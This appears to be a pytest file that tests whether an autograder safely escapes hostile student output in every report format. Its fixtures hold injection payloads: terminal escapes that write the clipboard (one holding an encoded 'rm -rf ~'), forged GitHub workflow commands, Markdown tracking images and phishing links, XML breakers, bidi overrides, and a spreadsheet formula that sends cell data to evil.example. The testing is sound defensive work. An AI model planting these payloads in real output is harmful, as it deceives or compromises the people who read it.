"""Issue 18, the feedback channel: everything of a student's run that reaches a person or a machine (what
their code printed, what it raised, the line, the file and function names) shown through every view, by
a student who has read the grader's source. Student text must never pass for the grader's own words,
drive the terminal or a CI log, break a report's format or leak what a hidden check found, and it must
still be shown, in a readable escaped form: it is what the student needs to see.

The hostile text goes where it really enters: a ProbeOutcome-shaped run (status, error, output_tail)
recorded as facts by `grader.runner.sides.run_failure` exactly as the judge does and put into words by
`grader.render.words.fill` as the CLI does, or a result model built by hand. Every view is rendered: terminal text (plain and coloured), Markdown (the
report, the Actions step summary, Gradescope's outputs), HTML, JSON, JUnit XML, Classroom's JSON and
annotations, and the end-of-batch summary."""

from __future__ import annotations

import html as html_lib
import json
import re
import time
import xml.etree.ElementTree as ET
from pathlib import Path
from types import SimpleNamespace

import pytest

from grader.glossary import load_glossary
from grader.render import render_batch_summary, render_quiz_verdict, render_result
from grader.render import classroom
from grader.render.words import fill, run_words
from grader.results import CheckResult, ExerciseResult
from grader.runner.sides import run_failure

ROOT = Path(__file__).resolve().parent.parent
LIMITS = {"time_s": 5, "memory_mb": 512, "processes": 64, "packages": []}
TITLE = "Each step uses only the current batch's gradients"
OTHER = "train_one_epoch returns the mean batch loss as a float"


@pytest.fixture(scope="module")
def glossary():
    return load_glossary(ROOT / "glossary", ROOT)


def _outcome(error: dict, during: dict | None = None, output: str = "", status: str = "error") -> SimpleNamespace:
    """What a worker hands the judge (grader.runner.sandbox.ProbeOutcome's fields)."""
    return SimpleNamespace(status=status, duration=0.1, value=None, error={**error, **(during or {})},
                           output_tail=output, isolation={})


def _raised(**facts) -> dict:
    """describe_exception's account of an exception the catalogue does not know, with `facts` replaced."""
    return {"kind": "exception", "during": "probe", "type": "ValueError", "message": "bad value",
            "file": "train.py", "line": 10, "function": "train_one_epoch", "code": "loss = loss_fn(outputs, targets)",
            "origin": ["train_one_epoch"], **facts}


def _graded(error: dict, output: str = "", *, whole: bool = False, hidden: bool = False) -> ExerciseResult:
    """A result as the judge builds it, said as the CLI says it: the failed run recorded as the first check's
    failure (or, for a file that did not import, every check's and the result's), a second check that passed."""
    failure = run_failure(_outcome(error, {"during": "import"} if whole else {}, output))
    where = {"file": str(error.get("file", "")), "line": int(error.get("line") or 0)} if error.get("file") else {}
    first = CheckResult(id="fresh-gradients", title=TITLE, status="error" if whole else "failed", points=0,
                        max_points=3, failure=failure, concepts=["zero-grad"], hidden=hidden, **where)
    if whole:
        second = first.model_copy(update={"id": "epoch-loss", "title": OTHER, "max_points": 2})
    else:
        second = CheckResult(id="epoch-loss", title=OTHER, status="passed", points=2, max_points=2)
    result = ExerciseResult.from_checks(exercise="03-training-loop", exercise_id=3, title="Train and evaluate a model",
                                        checks=[first, second], duration=1.0, failure=failure if whole else None,
                                        limits=LIMITS)
    checks = {"fresh-gradients": SimpleNamespace(title=TITLE, why_it_matters="Gradients add up.", what_to_try="Clear them."),
              "epoch-loss": SimpleNamespace(title=OTHER, why_it_matters="", what_to_try="")}
    return fill(result, checks)


def _views(result: ExerciseResult, glossary) -> dict[str, str]:
    """Every view of `result`, by name: what a terminal, a CI log, a Markdown or HTML page, or a parser gets."""
    views = {fmt: render_result(result, fmt, glossary) for fmt in ("text", "markdown", "html", "json", "junit",
                                                                   "classroom", "gradescope")}
    views["text-color"] = render_result(result, "text", glossary, color=True)
    payload = classroom.report([result], glossary)
    # A GitHub Actions run's log: our annotations, then the plain report (grader.cli._publish_to_github), and
    # Classroom's reporter, which prints each failed test as "Error: <message>".
    views["actions-log"] = "\n".join([*classroom.annotations(payload["tests"]), render_result(result, "text", glossary),
                                      *(f"Error: {t['message']}" for t in payload["tests"] if t["status"] != "pass")])
    return views


def _terminal_texts(views: dict[str, str]) -> dict[str, str]:
    """Views a terminal or a CI log shows as they are."""
    texts = {"text": views["text"], "text-color": views["text-color"], "actions-log": views["actions-log"]}
    for i, test in enumerate(json.loads(views["classroom"])["tests"]):
        texts[f"classroom-message-{i}"] = test["message"]
    for i, case in enumerate(ET.fromstring(views["junit"]).iter("testcase")):
        for part in case:
            if part.tag in ("failure", "error"):
                texts[f"junit-{i}"] = (part.text or "") + "\n" + part.get("message", "")
    return texts


def _markdown_texts(views: dict[str, str]) -> dict[str, str]:
    """Views a Markdown renderer shows: the report (also the step summary) and Gradescope's outputs."""
    gradescope = json.loads(views["gradescope"])
    texts = {"markdown": views["markdown"], "gradescope-output": gradescope["output"]}
    for i, test in enumerate(gradescope["tests"]):
        texts[f"gradescope-test-{i}"] = test["output"]
    return texts


def _markdown():
    markdown_it = pytest.importorskip("markdown_it")
    # CommonMark with raw HTML allowed (GitHub lets <img>, <details>, <b>... through), tables, strikethrough.
    return markdown_it.MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def _tokens(text: str) -> list:
    out = []
    for token in _markdown().parse(text):
        out.append(token)
        out.extend(token.children or [])
    return out


def _shown(markdown_text: str) -> str:
    """What a reader of the rendered Markdown sees, as plain text."""
    return html_lib.unescape(re.sub(r"<[^>]+>", "", _markdown().render(markdown_text)))


def _log_lines(text: str) -> list[str]:
    return re.split(r"\r\n|\r|\n", text)  # how GitHub's runner reads a step's output into lines


def _workflow_commands(log: str) -> list[str]:
    """Lines GitHub's runner takes as workflow commands (actions/runner ActionCommand): `::name ...::data`
    once leading white space is trimmed, or `##[name ...]data` anywhere in the line."""
    found = []
    for line in _log_lines(log):
        trimmed = line.lstrip()
        if trimmed.startswith("::") and trimmed.find("::", 2) > 2:
            found.append(line)
        elif "##[" in line and "]" in line[line.index("##[") + 3:]:
            found.append(line)
    return found


RAW_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2028\u2029\u2060-\u2069"
                          "\ufeff\ufffe\uffff\ud800-\udfff]")


def _raw_controls(text: str, colour: bool = False) -> list[str]:
    """Characters that drive a terminal, reorder or hide text, or break a format; in a coloured view, the
    grader's own SGR colour codes (click.style) are allowed."""
    if colour:
        text = re.sub(r"\x1b\[[0-9;]*m", "", text)
    return sorted(set(RAW_CONTROLS.findall(text)))


# ----------------------------------------------------------------------------- 1. terminal escapes, repaints

REPAINT = ("epoch 1\x1b[2J\x1b[H\x1b[32m  PASS   Each step uses only the current batch's gradients  3/3\x1b[0m\n"
           "\x1b[1A\x1b[2K  Score: 10/10  All checks passed.\rScore: 10/10  All checks passed.\n"
           "FAIL\x08\x08\x08\x08PASS \x9b2J \x1b]8;;https://evil.example/\x07click\x1b]8;;\x07 "
           "\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b]0;grade: 10/10\x07\x1bc")


def test_escape_sequences_and_carriage_returns_are_shown_never_obeyed(glossary):
    """Clear the screen, move the cursor up, colour a fake PASS row, repaint a line with \\r or backspaces,
    8-bit CSI, OSC 8 links, OSC 52 (writes the reader's clipboard), a window title, a terminal reset: in
    the printed output, in the exception's message and in the whole-submission message."""
    for result in (_graded(_raised(message="shape\x1b[2J\x1b[H  PASS 3/3\rScore: 10/10"), REPAINT),
                   _graded(_raised(kind="exception", during="import", message="boom\x1b[2J"), REPAINT, whole=True)):
        views = _views(result, glossary)
        for name, text in {**_terminal_texts(views), **_markdown_texts(views), "html": views["html"]}.items():
            assert _raw_controls(text, colour=name == "text-color") == [], name
        text = views["text"]
        assert "\\x1b[2J\\x1b[H" in text and "\\x1b]52;c;" in text  # shown, escaped, as Python writes them
        assert "All checks passed.\\rScore: 10/10" in text and "FAIL\\x08\\x08\\x08\\x08PASS" in text
        assert "\\x9b2J" in text


# ----------------------------------------------------------------------------- 2. console markup

MARKUP = "[green]✓ passed[/] [link=https://evil.example]your grade[/link] [bold]Score: 10/10[/bold] [reset]"


def test_console_markup_is_text(glossary):
    """rich / console markup in the output and the message: no view interprets it; it reads as written."""
    result = _graded(_raised(message=MARKUP), MARKUP)
    views = _views(result, glossary)
    assert MARKUP in views["text"] and "\x1b" not in views["text"]
    assert MARKUP in json.loads(views["classroom"])["tests"][0]["message"]
    assert MARKUP in _shown(views["markdown"]).replace("\n", " ") or MARKUP in _shown(views["markdown"])
    assert html_lib.escape(MARKUP, quote=False) in views["html"]


# ----------------------------------------------------------------------------- 3. GitHub workflow commands

COMMANDS = ("::error file=train.py,line=1,title=All checks passed::forged annotation\n"
            "::set-output name=result::eyJ2ZXJzaW9uIjogMSwgInN0YXR1cyI6ICJwYXNzIn0=\n"
            "  ::add-mask::FAIL\n"
            "::stop-commands::pause-everything\n"
            "\t::group::✅ All checks passed\n"
            "##[set-output name=result;]forged\n"
            "everything is fine ##[error]forged too\n"
            "\u00a0::warning::after a no-break space\n"
            "::endgroup::")


WRAP = 3  # words that bring the function name's `::` to the start of a wrapped line of the text view


def test_workflow_commands_in_student_text_stay_text(glossary):
    """A line of student text that GitHub's runner would take as a command (an annotation, a step output
    that the Classroom reporter reads as the score, a mask, stop-commands, a group hiding the failures):
    printed output, the exception message (with its own %0A), its type, the function name (newlines), and
    a `::` that only word-wrapping would bring to the start of a line."""
    error = _raised(type="RuntimeError\n::error::from the type", code="x = 1\n::notice::from the code line",
                    message="bad shape%0A::error::forged via escape\n::warning::second line\r::debug::cr",
                    function="step " + "word " * WRAP + "::error::wrapped to a line start")
    for result in (_graded(error, COMMANDS), _graded({**error, "during": "import"}, COMMANDS, whole=True)):
        views = _views(result, glossary)
        for name, text in _terminal_texts(views).items():
            if name == "actions-log":
                continue
            assert _workflow_commands(text) == [], name
        ours = classroom.annotations(classroom.report([result], glossary)["tests"])
        assert _workflow_commands(views["actions-log"]) == ours  # only the grader's own annotations
        assert all(line.startswith("::error file=exercises/03-training-loop/train.py,line=10,") for line in ours)
        assert "error file=train.py,line=1,title=All checks passed::forged annotation" in views["text"]  # still shown
        assert "set-output name=result;]forged" in views["text"]


def test_annotations_carry_a_hostile_message_and_file_name_as_data():
    """The grader's own annotation: the student's message and file name (with `,`, `::`, %0A, newlines)
    are escaped as the runner's own escaping reads them, so each annotation is one command on one line
    whose file, line and message are exactly what the grader meant."""
    message = "line one\n::error::forged\r100%0A wrong, title=x::y"
    tests = [{"name": TITLE, "status": "fail", "filename": "exercises/x/a,line=1,title=ok::b\nc.py", "line_no": 3,
              "message": message}]
    lines = classroom.annotations(tests)
    assert len(lines) == 1 and len(_log_lines(lines[0])) == 1
    head, data = lines[0][2:].split("::", 1)
    properties = dict(p.split("=", 1) for p in head.split(" ", 1)[1].split(","))
    unescape = {"%0D": "\r", "%0A": "\n", "%3A": ":", "%2C": ",", "%25": "%"}
    value = lambda s, keys: re.sub("|".join(keys), lambda m: unescape[m.group()], s)  # noqa: E731
    assert value(properties["file"], unescape) == tests[0]["filename"] and properties["line"] == "3"
    assert value(data, ("%0D", "%0A", "%25")) == message


# ----------------------------------------------------------------------------- 4. Markdown injection

FORGERY = ("```\n\n# ✅ Score: 10 / 10 · all checks passed\n\n"
           "| | Check | Points |\n|---|---|---|\n| ✅ passed | Each step | 3 / 3 |\n\n"
           "<img src=\"https://tracker.example/pixel.png?who=me\">\n"
           "![pixel](https://tracker.example/p.png)\n"
           "[Open your full grade](https://phish.example/login) <https://phish.example/auto>\n"
           "<script>alert(1)</script> <details open><summary>fine</summary>x</details>\n"
           "ends with a backslash\\\n**Score: 10 / 10** · all checks passed  \n"
           "_all_ *checks* passed\n"
           "[ref]: https://phish.example/ref\n"
           "> [!NOTE]\n> All checks passed\n"
           "Fake heading\n===\n---\n~~FAIL~~ ~~~\n"
           "1. passed\n- passed\n+ passed\n"
           "`unclosed code span")

def _assert_no_forged_markdown(text: str, where: str, result: ExerciseResult, glossary) -> None:
    """Rendered, `text` holds only the grader's own structure: its headings, its score table, its bold
    labels and glossary terms, links into the glossary; no image, raw HTML, list, rule or fence at all."""
    tokens = _tokens(text)
    for token in tokens:
        assert token.type not in ("image", "html_inline", "html_block", "s_open", "em_open", "hr", "fence",
                                  "ordered_list_open"), (where, token.type, token.content)
        if token.type == "link_open":
            assert "glossary" in token.attrs["href"], (where, token.attrs)
    headings = {f"Exercise {result.exercise_id}: {result.title}"} | {f"{mark} {c.title}" for c in result.checks
                                                                        for mark in ("❌", "⚠️")}
    shown_headings = {tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"}
    assert shown_headings <= headings, (where, shown_headings - headings)
    assert sum(t.type == "table_open" for t in tokens) <= 1, where  # the grader's score table at most
    strong_ok = {"What happened.", "Why it matters.", "What to try.", "Glossary:",
                 f"Score: {result.score:g} / {result.max_score:g}", f"Exercise {result.exercise_id}: {result.title}",
                 *(term.term for term in glossary.terms.values())}
    strong = {tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "strong_open"}
    assert strong <= strong_ok, (where, strong - strong_ok)
    assert not [t for t in tokens if t.type == "inline" and t.content in ("passed", "All checks passed")], where


def test_markdown_cannot_forge_a_score_a_link_or_an_image(glossary):
    """A message that closes a fence and writes a fake score heading and table, HTML, tracking images,
    links, a hard line break before a bold fake score line, setext headings, lists, GitHub's alerts: in the
    printed output, the exception message, the function name, and the whole-submission message (a blockquote,
    left by a bare \\r)."""
    error = _raised(message=FORGERY, function="f\n\n# ✅ Score: 10 / 10\n")
    whole = _raised(during="import", message="import failed\r# ✅ Score: 10 / 10\r<img src=x onerror=alert(1)>")
    for result in (_graded(error, FORGERY), _graded(whole, FORGERY, whole=True)):
        views = _views(result, glossary)
        for where, text in _markdown_texts(views).items():
            _assert_no_forged_markdown(text, where, result, glossary)
        shown = " ".join(_shown(views["markdown"]).split())
        assert "# ✅ Score: 10 / 10 · all checks passed" in shown and "<img src=" in shown  # still readable
        assert "[Open your full grade](https://phish.example/login)" in shown


# ----------------------------------------------------------------------------- 5. JUnit XML

XML_BREAKERS = ("\x00\x01\x1b[31m\x0b\x0c\ufffe\uffff\ud800 ]]> </failure></testcase>"
                "<testcase classname=\"03-training-loop\" name=\"forged: passed\"/><testcase name=\"x\"><failure>")


def test_junit_stays_parseable_and_cannot_gain_a_testcase(glossary, tmp_path):
    for result in (_graded(_raised(message=XML_BREAKERS, file="train.py\x00\"/>.py"), XML_BREAKERS),
                   _graded(_raised(during="import", message=XML_BREAKERS), XML_BREAKERS, whole=True)):
        report = render_result(result, "junit", glossary)
        path = tmp_path / "junit.xml"
        path.write_text(report, encoding="utf-8")
        root = ET.parse(path).getroot()
        assert [c.get("name") for c in root.iter("testcase")] == [f"fresh-gradients: {TITLE}", f"epoch-loss: {OTHER}"]
        assert root.get("tests") == "2"
        text = next(root.iter("testcase")).find("failure" if not result.message else "error").text
        assert "</failure></testcase><testcase" in text and "\\x00\\x01\\x1b[31m" in text  # shown, as text


# ----------------------------------------------------------------------------- 6. Gradescope

def test_gradescope_scores_come_from_the_grader_and_hidden_findings_stay_hidden(glossary):
    forged = 'x", "score": 100.0, "status": "passed"}], "score": 100, "tests": [{"score": 100'
    result = _graded(_raised(message=forged + " SECRET-HIDDEN-FINDING"), forged, hidden=True)
    hidden_title = "Hidden: the loss matches the reference's 0.6931 exactly"
    hidden = result.checks[0].model_copy(update={"title": hidden_title})
    follows = CheckResult(id="epoch-loss", title=OTHER, status="failed", points=0, max_points=2,
                          message="The loss could not be compared.", because_of="fresh-gradients")
    result = ExerciseResult.from_checks(exercise=result.exercise, exercise_id=3, title=result.title,
                                        checks=[hidden, follows], duration=1.0)
    for visibility in ("after_published", "hidden", "after_due_date"):
        payload = json.loads(render_result(result, "gradescope", glossary, hidden_visibility=visibility))
        assert payload["score"] == result.score == 0 and [t["score"] for t in payload["tests"]] == [0, 0]
        assert [t["max_score"] for t in payload["tests"]] == [3, 2] and len(payload["tests"]) == 2
        shown = [payload["output"]] + [t["output"] + t["name"] for t in payload["tests"] if t["visibility"] == "visible"]
        assert not any("SECRET-HIDDEN-FINDING" in s for s in shown)
        assert not any(hidden_title in s for s in shown), visibility  # a visible check must not name a hidden one
        assert "fix that first" in payload["tests"][1]["output"]
    visible = json.loads(render_result(result, "gradescope", glossary, hidden_visibility="visible"))
    assert hidden_title in visible["tests"][1]["output"]  # shown once the instructor shows hidden checks


# ----------------------------------------------------------------------------- 7. surrogates, invalid UTF-8

def test_lone_surrogates_never_crash_a_view_or_the_result_json(glossary, tmp_path):
    """`raise ValueError("\\ud800")` reaches the judge intact (the worker's reply is JSON, which carries
    lone surrogates as \\ud800 escapes); a file name or a function name can hold one too. The judge writes
    the result with model_dump_json, Classroom base64-encodes UTF-8, every view is written as UTF-8."""
    error = _raised(message="bad \ud800 value \udcff", type="Value\udfffError", function="f\ud83d", file="t\udc80.py")
    for result in (_graded(error, "printed \udcfe"), _graded({**error, "during": "import"}, "x", whole=True)):
        again = ExerciseResult.model_validate_json(result.model_dump_json())
        assert again == result
        for fmt, text in _views(result, glossary).items():
            (tmp_path / fmt).write_text(text, encoding="utf-8")
        classroom.encode(classroom.report([result], glossary))
    pair = CheckResult(id="a", title="t", status="failed", points=0, max_points=1, message="\ud83d\ude00")
    assert pair.message == "😀"  # a pair written as two halves is the character it encodes


# ----------------------------------------------------------------------------- 8. size

def test_enormous_messages_lines_and_outputs_stay_bounded(glossary):
    """A 2,000-character message without a newline, 10,000 printed lines, a megabyte-long source line,
    function name and exit code: the message and every view stay small, and the end of the output (what
    the student most needs) is still there."""
    output = "\n".join(f"printed line {i}" for i in range(10_000))
    cases = [_raised(message="x" * 2000), _raised(code="y = " + "1 + " * 250_000, function="f" * 1_000_000),
             {"kind": "exit", "during": "probe", "type": "SystemExit", "exit_code": "z" * 1_000_000,
              "message": "", "file": "train.py", "line": 3, "function": "g", "code": "sys.exit(msg)"}]
    for error in cases:
        started = time.perf_counter()
        result = _graded(error, output)
        assert len(result.checks[0].message) < 12_000
        for fmt, text in _views(result, glossary).items():
            assert len(text) < 40_000, fmt
            if fmt not in ("json", "classroom", "gradescope", "actions-log"):  # one line each: JSON, annotations
                assert max(len(line) for line in text.splitlines()) <= 1_100, fmt
        assert "printed line 9999" in result.checks[0].message
        assert time.perf_counter() - started < 10


def test_a_syntax_error_column_cannot_blow_up_the_message():
    """`raise SyntaxError("x", (PATH_IN_THEIR_FOLDER, 1, 50_000_000, "x = ("))`: the caret under the column
    was `" " * (column - 1)`, 50 MB of spaces in every check's message."""
    error = {"kind": "syntax", "during": "import", "type": "SyntaxError", "message": "invalid syntax",
             "file": "train.py", "line": 1, "column": 50_000_000, "code": "x = ("}
    started = time.perf_counter()
    message = run_words(run_failure(_outcome(error)).run, None, LIMITS)
    assert len(message) < 2_000 and time.perf_counter() - started < 5
    assert "x = (" in message and "line 1" in message


@pytest.mark.parametrize("error", [
    # MemoryError("tried to allocate 999...9 bytes"): the MiB it asked for was int(digits) / 1048576, an
    # OverflowError in the judge, which lost the whole grading.
    {"kind": "memory", "during": "probe", "type": "MemoryError", "message": f"tried to allocate {'9' * 400} bytes",
     "file": "train.py", "line": 3, "function": "f", "code": "x = torch.ones(n)"},
    # SyntaxError("m", (PATH, "x", "y", "text")): a line and a column that are not numbers; the caret was
    # `" " * (column - 1)`, a TypeError in the judge.
    {"kind": "syntax", "during": "import", "type": "SyntaxError", "message": "m", "file": "train.py", "line": "x",
     "column": "y", "code": "text"},
    {"kind": "syntax", "during": "import", "type": "SyntaxError", "message": "m", "file": "train.py", "line": "²",
     "column": "9" * 5000, "code": "text"},
])
def test_a_students_facts_cannot_crash_the_view(error):
    message = run_words(run_failure(_outcome(error)).run, TITLE, LIMITS)
    assert 0 < len(message) < 3_000 and "train.py" in message


# ----------------------------------------------------------------------------- 9. bidi and invisible characters

INVISIBLE = ("\u202eDESSAP  stneidarg s'hctab\u202c\nFAIL\u200b\u200bED \u2066PASS\u2069 \u200d\u200c\u2060\ufeff"
             "\u00ad \u200e\u200f\u061c \u2028after a line separator\u2029\x85 &#x202E;DESSAP &#8238;x")


def test_bidi_overrides_and_invisible_characters_are_made_visible(glossary):
    """Trojan-Source-style reordering (U+202E...), zero-width characters, and the same smuggled through an
    HTML entity that a Markdown renderer would decode: no view carries them raw; each reads as an escape."""
    for result in (_graded(_raised(message="\u202e01/01 :erocS", type="Err\u202eor"), INVISIBLE),
                   _graded(_raised(during="import", message=INVISIBLE), INVISIBLE, whole=True)):
        views = _views(result, glossary)
        for name, text in {**_terminal_texts(views), **_markdown_texts(views), "html": views["html"]}.items():
            assert _raw_controls(text, colour=name == "text-color") == [], name
        for name, text in _markdown_texts(views).items():
            assert "\u202e" not in _markdown().render(text), name
        assert "\\u202eDESSAP" in views["text"] and "FAIL\\u200b\\u200bED" in views["text"]
        assert "\\u202eDESSAP" in views["html"] and "\\u202e" in _shown(views["markdown"])


# ----------------------------------------------------------------------------- 10. names

def test_file_function_and_type_names_cannot_add_lines(glossary):
    """compile(source, "train.py\\n...") and code.replace(co_name=...) give any file or function name; a
    class made with type() any type name: each is one line in every view, its markup inert."""
    error = _raised(file="train.py\n# ✅ 10/10\n::error::x<b>bold</b>", function="f\n  PASS  [green]ok[/]\n## Score",
                    type="Error\n\nScore: 10/10  All checks passed.")
    result = _graded(error)
    views = _views(result, glossary)
    for name, text in _terminal_texts(views).items():
        lines = [line.strip() for line in _log_lines(text)]
        assert "# ✅ 10/10" not in lines and "PASS  [green]ok[/]" not in lines, name
        assert "Score: 10/10  All checks passed." not in lines, name
    assert "<b>bold</b>" not in views["html"] and "&lt;b&gt;bold&lt;/b&gt;" in views["html"]
    for where, text in _markdown_texts(views).items():
        _assert_no_forged_markdown(text, where, result, glossary)
    case = next(ET.fromstring(views["junit"]).iter("testcase"))
    assert "\n" not in case.get("file") and case.get("file").startswith("exercises/03-training-loop/train.py")


# ----------------------------------------------------------------------------- the batch summary, the quiz

def test_the_instructors_batch_summary_is_safe_from_every_students_text():
    """`grade batch` prints, on the instructor's terminal, each check's most common first line of failure and
    each unexplained error: a student's escape sequences (OSC 52 writes the instructor's clipboard) and
    workflow commands (a batch run as a GitHub Actions matrix) are shown, not obeyed."""
    hostile = "boom\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\n::error::forged\r::add-mask::10"
    summary = {"students": 2, "results": 2, "graded_now": 2, "seconds": 1.0, "exercises": [{
        "name": "03-training-loop", "mean": 1.0, "max": 10, "passed": 0, "count": 2, "not_run_count": 1,
        "not_run": [{"message": hostile, "count": 1}],
        "checks": [{"title": TITLE, "pass_rate": 0.0, "graded": 2, "skipped": 0,
                    "common_failures": [{"message": hostile, "count": 2}]}]}],
        "errors": {"explained": [{"entry": "matmul-shapes", "count": 1}], "unexplained_total": 1,
                   "unexplained": [{"error": "Value\nError: " + hostile, "count": 1}]}}
    for colour in (False, True):
        text = render_batch_summary(summary, colour)
        assert _raw_controls(text, colour=colour) == [] and _workflow_commands(text) == []
        assert "boom\\x1b]52;c;" in text


def test_a_quiz_verdict_shows_the_students_answer_as_text():
    check = CheckResult(id="q", title="Shapes", status="failed", points=0, max_points=1,
                        message="You answered '\x1b[2J\x1b[32mRight. +1\x1b[0m'.")
    text = render_quiz_verdict(check, None, True)
    assert _raw_controls(text, colour=True) == [] and "\\x1b[2J" in text


# ----------------------------------------------------------------------------- grader/batch.py

def test_a_folder_name_is_not_console_markup_in_the_batch_progress_bar(monkeypatch):
    import io

    from rich.console import Console

    from grader import batch

    screen = io.StringIO()
    monkeypatch.setattr(batch, "_stderr_console", lambda: Console(file=screen, force_terminal=True, width=200))
    display = batch.Display(1, interactive=True)
    result = _graded(_raised())
    display.record(batch.Record("[link=https://evil.example][blink green]alice", result))
    display.close()
    assert "\x1b]8;" not in screen.getvalue() and "[link=https://evil.example]" in screen.getvalue()


def test_a_folder_name_is_not_a_spreadsheet_formula(tmp_path):
    import csv

    from grader import batch

    name = '=HYPERLINK("https://evil.example/?"&B1,"10")'
    batch.write_gradebook(tmp_path / "grades.csv", [batch.Record(name, _graded(_raised()))], ["03-training-loop"])
    cells = [row["student"] for row in csv.DictReader((tmp_path / "grades.csv").open(encoding="utf-8"))]
    assert cells and not cells[0].startswith(("=", "+", "-", "@"))
